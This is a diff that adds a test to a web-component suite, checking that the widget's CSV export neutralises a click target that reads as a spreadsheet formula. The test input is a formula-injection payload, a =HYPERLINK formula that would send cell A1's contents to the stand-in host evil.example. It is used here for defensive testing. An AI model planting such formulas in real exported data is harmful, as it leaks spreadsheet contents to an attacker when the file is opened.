@@ -137,6 +137,34 @@ describe('fp-friction', () => {
     expect(element.shadowRoot!.textContent).to.contain('No data for this range.');
   });
 
+  it("downloads CSV in which a target that reads as a formula is neutralised with a '", async () => {
+    const target = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const store = await fixtureStore([0, 200, 400].map((ms) => click('a', `2026-11-27T10:00:00.${String(ms).padStart(3, '0')}Z`, target, 10, 10)));
+    const element = await fixture<FpFriction>(html`<fp-friction label="Friction" .source=${store} from="2026-11-26" to="2026-11-28"></fp-friction>`);
+    await settled(element);
+    const blobs: Blob[] = [];
+    const names: string[] = [];
+    const realCreate = URL.createObjectURL;
+    const realClick = HTMLAnchorElement.prototype.click;
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return realCreate(blob);
+    };
+    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
+      names.push(this.download);
+    };
+    try {
+      element.shadowRoot!.querySelector<HTMLButtonElement>('button[part="download"]')!.click();
+    } finally {
+      URL.createObjectURL = realCreate;
+      HTMLAnchorElement.prototype.click = realClick;
+    }
+    expect(names).to.deep.equal(['friction.csv']);
+    expect(await blobs[0]!.text()).to.equal(
+      `Signal,"Target, message or event",Count,Users\r\nRage clicks,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",1,1\r\n`,
+    );
+  });
+
   it('shows the error, naming the field, for a bad attribute or threshold', async () => {
     const element = await friction({});
     element.setAttribute('max-minutes', '10');
